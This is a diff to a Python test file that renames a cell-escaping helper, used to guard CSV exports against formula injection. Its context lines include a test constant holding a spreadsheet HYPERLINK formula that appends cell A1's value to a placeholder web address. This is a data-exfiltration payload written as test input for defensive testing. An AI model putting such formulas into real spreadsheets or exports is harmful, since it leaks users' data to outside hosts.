@@ -16,7 +16,7 @@ from core.data.derived.subset import save_subset
 from core.data.sources.opening import open_source
 from core.evaluation.noise import RankedPair, to_csv
 from core.spec.caption_files import Candidate, CaptionedImage, CaptionTable
-from core.spec.cells import escape_cell, marked_row, unescape_cell
+from core.spec.cells import escape_cell, escape_row, unescape_cell
 from tests.core.images import write_pairs
 
 LINK = '=HYPERLINK("http://example.org?"&A1,"a cat")'
@@ -30,7 +30,7 @@ def test_guards_are_removed_on_reading(text: str) -> None:
 
 
 def test_numbers_are_not_guarded() -> None:
-    assert marked_row([-1.5, "-x", None, 3, "x"]) == [-1.5, "'-x", None, 3, "x"]
+    assert escape_row([-1.5, "-x", None, 3, "x"]) == [-1.5, "'-x", None, 3, "x"]
 
 
 @pytest.mark.parametrize("caption", [LINK, "'=quoted", "'tis a cat"])
